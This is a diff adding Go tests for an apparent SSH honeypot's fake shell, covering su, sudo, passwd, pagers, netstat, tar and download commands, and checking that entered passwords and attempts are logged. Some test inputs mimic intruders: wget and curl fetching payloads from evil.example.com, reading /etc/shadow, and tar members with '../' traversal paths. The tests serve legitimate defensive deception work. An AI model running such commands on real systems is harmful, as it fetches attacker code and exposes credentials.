+		t.Errorf("status=%v, want 1", status)
+	}
+	if test.stdout.String() != "" || test.stderr.String() != "cat: /etc/shadow: Permission denied\n" {
+		t.Errorf("stdout=%q, stderr=%q, want permission denied", test.stdout.String(), test.stderr.String())
+	}
+}
+
+func TestCatShadowAfterSu(t *testing.T) {
+	cfg := &config{validUser: "root", validPass: "toor"}
+	cfg.Shell.Etc = etcConfig{Passwd: defaultPasswd, Shadow: defaultShadow}
+	test := newCommandTest(t, cfg, true, "toor", "cat /etc/shadow")
+	test.context.user = "admin"
+	if status := test.run(t, "su"); status != 0 {
+		t.Errorf("status=%v, want 0", status)
+	}
+	expectedOutput := "Password: # " + defaultShadow + "# "
+	if test.stdout.String() != expectedOutput {
+		t.Errorf("stdout=%q, want %q", test.stdout.String(), expectedOutput)
+	}
+}
+
+func TestLsDirectoryPermissions(t *testing.T) {
+	test := newCommandTest(t, &config{}, false)
+	test.context.state.fs.addFile("/root/.bash_history", "")
+	test.context.state.fs.lookup("/root").Mode = 0700
+	test.context.user = "admin"
+	if status := test.run(t, "ls", "-a", "/root"); status != 2 {
+		t.Errorf("status=%v, want 2", status)
+	}
+	if test.stdout.String() != "" || test.stderr.String() != "ls: cannot open directory '/root': Permission denied\n" {
+		t.Errorf("stdout=%q, stderr=%q, want permission denied", test.stdout.String(), test.stderr.String())
+	}
+	test.stderr.Reset()
+	test.context.user = "root"
+	if status := test.run(t, "ls", "-a", "/root"); status != 0 {
+		t.Errorf("status=%v, want 0", status)
+	}
+	if test.stdout.String() != ".bash_history\n" || test.stderr.String() != "" {
+		t.Errorf("stdout=%q, stderr=%q, want the directory listed", test.stdout.String(), test.stderr.String())
+	}
+}
+
+func TestTouchPermissions(t *testing.T) {
+	test := newCommandTest(t, &config{}, false)
+	test.context.user = "admin"
+	if status := test.run(t, "touch", "/etc/evil", "/tmp/evil"); status != 1 {
+		t.Errorf("status=%v, want 1", status)
+	}
+	if test.stderr.String() != "touch: cannot touch '/etc/evil': Permission denied\n" {
+		t.Errorf("stderr=%q, want permission denied", test.stderr.String())
+	}
+	if node := test.context.state.fs.lookup("/etc/evil"); node != nil {
+		t.Errorf("/etc/evil was created")
+	}
+	if node := test.context.state.fs.lookup("/tmp/evil"); node == nil || node.owner() != "admin" {
+		t.Errorf("/tmp/evil=%v, want a file owned by admin", node)
+	}
+}
+
+func TestCatPager(t *testing.T) {
+	cfg := &config{}
+	cfg.Shell.Pager = true
+	test := newCommandTest(t, cfg, true, "", "")
+	*test.context.height = 3
+	test.context.state.fs.addFile("/tall.txt", "1\n2\n3\n4\n5\n")
+	if status := test.run(t, "cat", "/tall.txt"); status != 0 {
+		t.Errorf("status=%v, want 0", status)
+	}
+	expectedOutput := "1\n2\n--More--(40%)3\n4\n--More--(80%)5\n"
+	if test.stdout.String() != expectedOutput {
+		t.Errorf("stdout=%q, want %q", test.stdout.String(), expectedOutput)
+	}
+}
+
+func TestCatPagerQuit(t *testing.T) {
+	cfg := &config{}
+	cfg.Shell.Pager = true
+	test := newCommandTest(t, cfg, true, "q")
+	*test.context.height = 3
+	test.context.state.fs.addFile("/tall.txt", "1\n2\n3\n4\n5\n")
+	if status := test.run(t, "cat", "/tall.txt"); status != 0 {
+		t.Errorf("status=%v, want 0", status)
+	}
+	expectedOutput := "1\n2\n--More--(40%)"
+	if test.stdout.String() != expectedOutput {
+		t.Errorf("stdout=%q, want %q", test.stdout.String(), expectedOutput)
+	}
+}
+
+func TestPagerAliases(t *testing.T) {
+	for _, name := range []string{"more", "less", "view"} {
+		test := newCommandTest(t, &config{}, true)
+		if status := test.run(t, name, "pwd.txt"); status != 0 {
+			t.Errorf("%v: status=%v, want 0", name, status)
+		}
+		expectedOutput := FileSystem.lookup("/pwd.txt").Content + "\n"
+		if test.stdout.String() != expectedOutput {
+			t.Errorf("%v: stdout=%q, want %q", name, test.stdout.String(), expectedOutput)
+		}
+		test = newCommandTest(t, &config{}, true)
+		if status := test.run(t, name, "/nonexistent"); status != 1 {
+			t.Errorf("%v: status=%v, want 1", name, status)
+		}
+		if expectedError := name + ": /nonexistent: No such file or directory\n"; test.stderr.String() != expectedError {
+			t.Errorf("%v: stderr=%q, want %q", name, test.stderr.String(), expectedError)
+		}
+	}
+}
+
+func TestLessPages(t *testing.T) {
+	test := newCommandTest(t, &config{}, true, "q")
+	*test.context.height = 3
+	test.context.state.fs.addFile("/tall.txt", "1\n2\n3\n4\n5\n")
+	if status := test.run(t, "less", "/tall.txt"); status != 0 {
+		t.Errorf("status=%v, want 0", status)
+	}
+	expectedOutput := "1\n2\n--More--(40%)"
+	if test.stdout.String() != expectedOutput {
+		t.Errorf("stdout=%q, want %q", test.stdout.String(), expectedOutput)
+	}
+}
+
+// ctrlDReadLiner ends its input like a terminal does when Ctrl-D is pressed.
+type ctrlDReadLiner struct {
+	mockReadLiner
+}
+
+func (r *ctrlDReadLiner) ReadLine() (string, error) {
+	line, err := r.mockReadLiner.ReadLine()
+	if err == io.EOF {
+		return line, clientEOF
+	}
+	return line, err
+}
+
+func TestCommandInputCtrlD(t *testing.T) {
+	for _, args := range [][]string{
+		{"base64"},
+		{"head"},
+		{"crontab", "-"},
+		{"nano", "/tmp/x"},
+		{"more", "/tall.txt"},
+		{"sftp", "admin@evil"},
+		{"ftp", "evil"},
+	} {
+		test := newCommandTest(t, &config{}, true)
+		test.context.stdin = &ctrlDReadLiner{mockReadLiner{[]string{"hello"}}}
+		*test.context.height = 3
+		test.context.state.fs.addFile("/tall.txt", "1\n2\n3\n4\n5\n")
+		test.context.args = args
+		if status, err := executeProgram(test.context); status != 0 || err != nil {
+			t.Errorf("%v: status=%v, err=%v, want Ctrl-D to end the input", args, status, err)
+		}
+	}
+}
+
+func TestPasswordPromptCtrlD(t *testing.T) {
+	for _, test := range []struct {
+		args           []string
+		expectedStatus uint32
+		expectedErrors string
+	}{
+		{[]string{"su"}, 1, "\nsu: Authentication failure\n"},
+		{[]string{"sudo", "id"}, 1, "\nsudo: a password is required\n"},
+		{[]string{"passwd"}, 10, "\npasswd: Authentication token manipulation error\npasswd: password unchanged\n"},
+	} {
+		commandTest := newCommandTest(t, &config{}, true)
+		commandTest.context.stdin = &ctrlDReadLiner{}
+		commandTest.context.user = "admin"
+		commandTest.context.args = test.args
+		status, err := executeProgram(commandTest.context)
+		if status != test.expectedStatus || err != nil {
+			t.Errorf("%v: status=%v, err=%v, want status %v", test.args, status, err, test.expectedStatus)
+		}
+		if commandTest.stderr.String() != test.expectedErrors {
+			t.Errorf("%v: stderr=%q, want %q", test.args, commandTest.stderr.String(), test.expectedErrors)
+		}
+	}
+}
+
+type slowReadLiner struct {
+	release chan struct{}
+}
+
+func (r slowReadLiner) ReadLine() (string, error) {
+	<-r.release
+	return "", io.EOF
+}
+
+func TestShellIdleTimeout(t *testing.T) {
+	cfg := &config{}
+	cfg.Shell.IdleTimeout = 10 * time.Millisecond
+	test := newCommandTest(t, cfg, false)
+	stdin := slowReadLiner{make(chan struct{})}
+	test.context.stdin = stdin
+	result := make(chan uint32)
+	go func() {
+		result <- test.run(t, "sh")
+	}()
+	select {
+	case status := <-result:
+		if status != 0 {
+			t.Errorf("status=%v, want 0", status)
+		}
+	case <-time.After(time.Second):
+		t.Fatalf("Timed out waiting for the shell to time out")
+	}
+	close(stdin.release)
+	test.context.state.waitForInput()
+	expectedErrors := "\r\ntimed out waiting for input: auto-logout\r\n"
+	if test.stderr.String() != expectedErrors {
+		t.Errorf("stderr=%q, want %q", test.stderr.String(), expectedErrors)
+	}
+}
+
+func TestSudo(t *testing.T) {
+	test := newCommandTest(t, &config{}, true, "hunter2")
+	test.context.user = "admin"
+	if status := test.run(t, "sudo", "echo", "hi"); status != 0 {
+		t.Errorf("status=%v, want 0", status)
+	}
+	expectedOutput := "[sudo] password for admin: hi\n"
+	if test.stdout.String() != expectedOutput {
+		t.Errorf("stdout=%q, want %q", test.stdout.String(), expectedOutput)
+	}
+	expectedLogs := `[127.0.0.1:1234] [channel 0] sudo password for user "admin" entered: "hunter2"
+[127.0.0.1:1234] [channel 0] command "echo" with arguments ["hi"] run as user "root" exited with status 0
+[127.0.0.1:1234] [channel 0] command "sudo" with arguments ["echo" "hi"] run as user "admin" exited with status 0
+`
+	if test.logs.String() != expectedLogs {
+		t.Errorf("logs=%v, want %v", test.logs.String(), expectedLogs)
+	}
+}
+
+func TestSudoWithoutCommand(t *testing.T) {
+	test := newCommandTest(t, &config{}, true)
+	if status := test.run(t, "sudo"); status != 1 {
+		t.Errorf("status=%v, want 1", status)
+	}
+	if !strings.HasPrefix(test.stderr.String(), "usage: sudo -h | -K | -k | -V\n") {
+		t.Errorf("stderr=%q, want the sudo usage", test.stderr.String())
+	}
+}
+
+func TestSuAccepted(t *testing.T) {
+	cfg := &config{validUser: "root", validPass: "toor"}
+	test := newCommandTest(t, cfg, true, "toor", "exit")
+	test.context.user = "admin"
+	if status := test.run(t, "su"); status != 0 {
+		t.Errorf("status=%v, want 0", status)
+	}
+	expectedOutput := "Password: # "
+	if test.stdout.String() != expectedOutput {
+		t.Errorf("stdout=%q, want %q", test.stdout.String(), expectedOutput)
+	}
+	if !strings.HasPrefix(test.logs.String(), `[127.0.0.1:1234] [channel 0] su to user "root" with password "toor" accepted`+"\n") {
+		t.Errorf("logs=%v, want the accepted su logged", test.logs.String())
+	}
+}
+
+func TestSuRejected(t *testing.T) {
+	cfg := &config{validUser: "root", validPass: "toor"}
+	test := newCommandTest(t, cfg, true, "hunter2")
+	test.context.user = "admin"
+	if status := test.run(t, "su", "-"); status != 1 {
+		t.Errorf("status=%v, want 1", status)
+	}
+	if test.stderr.String() != "su: Authentication failure\n" {
+		t.Errorf("stderr=%q, want %q", test.stderr.String(), "su: Authentication failure\n")
+	}
+	expectedLogs := `[127.0.0.1:1234] [channel 0] su to user "root" with password "hunter2" rejected
+[127.0.0.1:1234] [channel 0] command "su" with arguments ["-"] run as user "admin" exited with status 1
+`
+	if test.logs.String() != expectedLogs {
+		t.Errorf("logs=%v, want %v", test.logs.String(), expectedLogs)
+	}
+}
+
+func TestPasswd(t *testing.T) {
+	test := newCommandTest(t, &config{}, true, "hunter2", "s3cret", "s3cret")
+	test.context.user = "admin"
+	if status := test.run(t, "passwd"); status != 0 {
+		t.Errorf("status=%v, want 0", status)
+	}
+	expectedOutput := "Changing password for admin.\nCurrent password: New password: Retype new password: passwd: password updated successfully\n"
+	if test.stdout.String() != expectedOutput {
+		t.Errorf("stdout=%q, want %q", test.stdout.String(), expectedOutput)
+	}
+	if !strings.HasPrefix(test.logs.String(), `[127.0.0.1:1234] [channel 0] password change for user "admin" with current password "hunter2" and new passwords ["s3cret" "s3cret"]`+"\n") {
+		t.Errorf("logs=%v, want the password change logged", test.logs.String())
+	}
+}
+
+func TestPasswdMismatch(t *testing.T) {
+	test := newCommandTest(t, &config{}, true, "s3cret", "secret", "s3cret", "s3cret")
+	if status := test.run(t, "passwd"); status != 0 {
+		t.Errorf("status=%v, want 0", status)
+	}
+	if test.stderr.String() != "Sorry, passwords do not match.\n" {
+		t.Errorf("stderr=%q, want a mismatch error", test.stderr.String())
+	}
+	if !strings.HasPrefix(test.logs.String(), `[127.0.0.1:1234] [channel 0] password change for user "root" with current password "" and new passwords ["s3cret" "secret" "s3cret" "s3cret"]`+"\n") {
+		t.Errorf("logs=%v, want the password change logged", test.logs.String())
+	}
+}
+
+func TestPasswdWithoutPTY(t *testing.T) {
+	test := newCommandTest(t, &config{}, false)
+	if status := test.run(t, "passwd"); status != 10 {
+		t.Errorf("status=%v, want 10", status)
+	}
+	if test.stderr.String() != "passwd: Authentication token manipulation error\npasswd: password unchanged\n" {
+		t.Errorf("stderr=%q, want an error", test.stderr.String())
+	}
+}
+
+func TestNetstat(t *testing.T) {
+	cfg := &config{}
+	cfg.Shell.Processes = defaultProcesses
+	cfg.Shell.Sockets = defaultSockets
+	test := newCommandTest(t, cfg, false)
+	if status := test.run(t, "netstat", "-tlnp"); status != 0 {
+		t.Errorf("status=%v, want 0", status)
+	}
+	expectedOutput := `Active Internet connections (only servers)
+Proto Recv-Q Send-Q Local Address           Foreign Address         State       PID/Program name
+tcp        0      0 0.0.0.0:22              0.0.0.0:*               LISTEN      845/sshd: /usr/sbin
+tcp        0      0 127.0.0.1:3306          0.0.0.0:*               LISTEN      1120/mysqld
+tcp6       0      0 :::22                   :::*                    LISTEN      845/sshd: /usr/sbin
+`
+	if test.stdout.String() != expectedOutput {
+		t.Errorf("stdout=%q, want %q", test.stdout.String(), expectedOutput)
+	}
+}
+
+func TestNetstatEstablished(t *testing.T) {
+	cfg := &config{}
+	cfg.Shell.Processes = defaultProcesses
+	cfg.Shell.Sockets = defaultSockets
+	test := newCommandTest(t, cfg, false)
+	if status := test.run(t, "netstat", "-an"); status != 0 {
+		t.Errorf("status=%v, want 0", status)
+	}
+	for _, want := range []string{
+		"tcp        0      0 0.0.0.0:22              0.0.0.0:*               LISTEN\n",
+		"udp        0      0 0.0.0.0:68              0.0.0.0:*\n",
+		"tcp        0      0 127.0.0.1:22            127.0.0.1:1234          ESTABLISHED\n",
+	} {
+		if !strings.Contains(test.stdout.String(), want) {
+			t.Errorf("stdout=%q, want it to contain %q", test.stdout.String(), want)
+		}
+	}
+}
+
+func TestSs(t *testing.T) {
+	cfg := &config{}
+	cfg.Shell.Processes = defaultProcesses
+	cfg.Shell.Sockets = defaultSockets
+	test := newCommandTest(t, cfg, false)
+	if status := test.run(t, "ss", "-tlnp"); status != 0 {
+		t.Errorf("status=%v, want 0", status)
+	}
+	expectedOutput := `Netid  State   Recv-Q  Send-Q      Local Address:Port Peer Address:Port      Process
+tcp    LISTEN  0       128                 0.0.0.0:22 0.0.0.0:*              users:(("sshd",pid=845,fd=3))
+tcp    LISTEN  0       128             127.0.0.1:3306 0.0.0.0:*              users:(("mysqld",pid=1120,fd=3))
+tcp    LISTEN  0       128                    [::]:22 [::]:*                 users:(("sshd",pid=845,fd=3))
+`
+	if test.stdout.String() != expectedOutput {
+		t.Errorf("stdout=%q, want %q", test.stdout.String(), expectedOutput)
+	}
+}
+
+func TestSsWithoutProgram(t *testing.T) {
+	cfg := &config{}
+	cfg.Shell.Sockets = []socketConfig{{Proto: "tcp", LocalAddress: "0.0.0.0:8080", ForeignAddress: "0.0.0.0:*", State: "LISTEN"}}
+	test := newCommandTest(t, cfg, false)
+	if status := test.run(t, "ss", "-tlnp"); status != 0 {
+		t.Errorf("status=%v, want 0", status)
+	}
+	if want := "tcp    LISTEN  0       128               0.0.0.0:8080 0.0.0.0:*\n"; !strings.HasSuffix(test.stdout.String(), want) {
+		t.Errorf("stdout=%q, want it to end with %q", test.stdout.String(), want)
+	}
+}
+
+func TestWget(t *testing.T) {
+	test := newCommandTest(t, &config{}, false)
+	if status := test.run(t, "wget", "http://evil.example.com/payload.sh"); status != 0 {
+		t.Errorf("status=%v, want 0", status)
+	}
+	if node := test.context.state.fs.lookup("payload.sh"); node == nil || node.IsDir || node.Content != "" {
+		t.Errorf("payload.sh=%+v, want an empty file", node)
+	}
+	if !strings.Contains(test.stderr.String(), "Saving to: ‘payload.sh’\n") {
+		t.Errorf("stderr=%q, want the file saved", test.stderr.String())
+	}
+	if !strings.HasPrefix(test.logs.String(), `[127.0.0.1:1234] [channel 0] download of "http://evil.example.com/payload.sh" attempted with wget`+"\n") {
+		t.Errorf("logs=%v, want the download logged", test.logs.String())
+	}
+
+	test.run(t, "wget", "-q", "evil.example.com/payload.sh")
+	if test.context.state.fs.lookup("payload.sh.1") == nil {
+		t.Errorf("payload.sh.1 not created, want a second download not to overwrite the first")
+	}
+}
+
+func TestCurl(t *testing.T) {
+	test := newCommandTest(t, &config{}, false)
+	if status := test.run(t, "curl", "-sSLO", "https://evil.example.com/x86"); status != 0 {
+		t.Errorf("status=%v, want 0", status)
+	}
+	if test.context.state.fs.lookup("x86") == nil {
+		t.Errorf("x86 not created, want curl -O to save the file")
+	}
+	if !strings.HasPrefix(test.logs.String(), `[127.0.0.1:1234] [channel 0] download of "https://evil.example.com/x86" attempted with curl`+"\n") {
+		t.Errorf("logs=%v, want the download logged", test.logs.String())
+	}
+}
+
+func TestNotFoundFlavors(t *testing.T) {
+	for flavor, expectedErrors := range map[string]string{
+		"":     "foo: command not found\n",
+		"bash": "bash: foo: command not found\n",
+		"dash": "sh: 2: foo: not found\n",
+	} {
+		cfg := &config{}
+		cfg.Shell.Flavor = flavor
+		test := newCommandTest(t, cfg, false, "true", "foo")
+		if status := test.run(t, "sh"); status != 127 {
+			t.Errorf("flavor %q: status=%v, want 127", flavor, status)
+		}
+		if test.stderr.String() != expectedErrors {
+			t.Errorf("flavor %q: stderr=%q, want %q", flavor, test.stderr.String(), expectedErrors)
+		}
+	}
+}
+
+func TestEchoFlags(t *testing.T) {
+	for _, testCase := range []struct {
+		args           []string
+		expectedOutput string
+	}{
+		{[]string{"echo", "-n", "hi"}, "hi"},
+		{[]string{"echo", "-e", `a\tb`}, "a\tb\n"},
+		{[]string{"echo", "-ne", `a\nb`}, "a\nb"},
+		{[]string{"echo", "-e", `\x41\0102\c ignored`}, "AB"},
+		{[]string{"echo", `a\tb`}, "a\\tb\n"},
+		{[]string{"echo", "-x", "hi"}, "-x hi\n"},
+		{[]string{"echo", "-"}, "-\n"},
+	} {
+		test := newCommandTest(t, &config{}, false)
+		test.run(t, testCase.args...)
+		if test.stdout.String() != testCase.expectedOutput {
+			t.Errorf("%q: stdout=%q, want %q", testCase.args, test.stdout.String(), testCase.expectedOutput)
+		}
+	}
+}
+
+func TestProcFiles(t *testing.T) {
+	cfg := &config{}
+	cfg.Shell.Hardware = hardwareConfig{CPUModel: "AMD EPYC 7571", CPUCores: 4, MemoryMB: 8192}
+	test := newCommandTest(t, cfg, false)
+	if status := test.run(t, "cat", "/proc/cpuinfo"); status != 0 {
+		t.Errorf("status=%v, want 0", status)
+	}
+	cpuinfo := test.stdout.String()
+	if count := strings.Count(cpuinfo, "model name\t: AMD EPYC 7571\n"); count != 4 {
+		t.Errorf("%v processors with the configured model, want 4", count)
+	}
+	if !strings.Contains(cpuinfo, "processor\t: 3\n") || !strings.Contains(cpuinfo, "cpu cores\t: 4\n") {
+		t.Errorf("cpuinfo=%q, want 4 cores", cpuinfo)
+	}
+	test.stdout.Reset()
+	test.run(t, "cat", "/proc/meminfo")
+	if !strings.HasPrefix(test.stdout.String(), "MemTotal:        8178892 kB\n") {
+		t.Errorf("meminfo=%q, want the configured total memory", test.stdout.String())
+	}
+}
+
+func TestTarCreate(t *testing.T) {
+	test := newCommandTest(t, &config{}, false)
+	test.run(t, "mkdir", "loot")
+	test.run(t, "touch", "loot/a", "loot/b")
+	if status := test.run(t, "tar", "-czf", "out.tar.gz", "loot"); status != 0 {
+		t.Errorf("status=%v, want 0, stderr=%q", status, test.stderr.String())
+	}
+	if node := test.context.state.fs.lookup("out.tar.gz"); node == nil || node.IsDir || len(node.Content) == 0 {
+		t.Errorf("out.tar.gz=%+v, want a placeholder archive", node)
+	}
+	if !strings.Contains(test.logs.String(), `[channel 0] tar create of archive "out.tar.gz" with files ["loot/" "loot/a" "loot/b"]`) {
+		t.Errorf("logs=%v, want the tar operation logged", test.logs.String())
+	}
+
+	if status := test.run(t, "tar", "tzf", "out.tar.gz"); status != 0 {
+		t.Errorf("status=%v, want 0", status)
+	}
+	expectedOutput := "loot/\nloot/a\nloot/b\n"
+	if test.stdout.String() != expectedOutput {
+		t.Errorf("stdout=%q, want %q", test.stdout.String(), expectedOutput)
+	}
+}
+
+func TestTarExtractPermissionDenied(t *testing.T) {
+	test := newCommandTest(t, &config{}, false)
+	test.context.user = "admin"
+	test.context.state.fs.addFile("/opt/.keep", "")
+	test.run(t, "touch", "/tmp/a.tgz")
+	if status := test.run(t, "tar", "-xf", "/tmp/a.tgz", "-C", "/opt"); status != 2 {
+		t.Errorf("status=%v, want 2", status)
+	}
+	if !strings.HasPrefix(test.stderr.String(), "tar: a/: Cannot open: Permission denied\n") {
+		t.Errorf("stderr=%q, want permission denied", test.stderr.String())
+	}
+	if node := test.context.state.fs.lookup("/opt/a"); node != nil {
+		t.Errorf("/opt/a=%+v, want nothing extracted", node)
+	}
+}
+
+func TestTarDotDotMembers(t *testing.T) {
+	test := newCommandTest(t, &config{}, false)
+	test.run(t, "touch", "/tmp/x")
+	if status := test.run(t, "tar", "-cf", "/tmp/a.tar", "/etc/../tmp/x"); status != 0 {
+		t.Errorf("status=%v, want 0", status)
+	}
+	if test.stderr.String() != "tar: Removing leading `/etc/../' from member names\n" {
+		t.Errorf("stderr=%q, want the removed prefix reported", test.stderr.String())
+	}
+	test.context.state.archives[test.context.state.fs.lookup("/tmp/a.tar")] = []string{"../../evil/", "a/../../cron", "tmp/x"}
+	test.run(t, "mkdir", "/tmp/out")
+	if status := test.run(t, "tar", "-xf", "/tmp/a.tar", "-C", "/tmp/out"); status != 0 {
+		t.Errorf("status=%v, want 0", status)
+	}
+	for _, name := range []string{"/tmp/out/evil", "/tmp/out/cron", "/tmp/out/tmp/x"} {
+		if test.context.state.fs.lookup(name) == nil {
+			t.Errorf("%v missing, want it extracted", name)
+		}
+	}
+	for _, name := range []string{"/evil", "/tmp/cron"} {
+		if node := test.context.state.fs.lookup(name); node != nil {
+			t.Errorf("%v=%+v, want nothing extracted outside the directory", name, node)
+		}
+	}
+}
+
+func TestTarList(t *testing.T) {
+	test := newCommandTest(t, &config{}, false)
+	test.run(t, "touch", "kit.tar.gz")
+	if status := test.run(t, "tar", "-tf", "kit.tar.gz"); status != 0 {
+		t.Errorf("status=%v, want 0", status)
+	}
+	expectedOutput := "kit/\nkit/install.sh\nkit/config.json\nkit/README\n"
+	if test.stdout.String() != expectedOutput {
+		t.Errorf("stdout=%q, want %q", test.stdout.String(), expectedOutput)
+	}
+	if status := test.run(t, "tar", "-xzf", "kit.tar.gz"); status != 0 {
+		t.Errorf("status=%v, want 0", status)
+	}
+	if node := test.context.state.fs.lookup("kit/install.sh"); node == nil || node.IsDir {
+		t.Errorf("kit/install.sh=%+v, want an extracted placeholder", node)
+	}
+}